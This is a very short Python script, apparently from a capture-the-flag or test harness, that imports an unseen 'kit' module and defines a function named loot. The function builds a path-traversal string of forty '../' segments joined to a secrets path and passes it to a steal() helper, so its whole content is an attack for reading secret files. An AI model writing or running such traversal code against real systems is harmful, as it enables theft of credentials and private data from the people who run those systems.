# %%
from kit import *

# %%
def loot():
    return steal("../" * 40 + WORLD["secrets"].lstrip("/"))
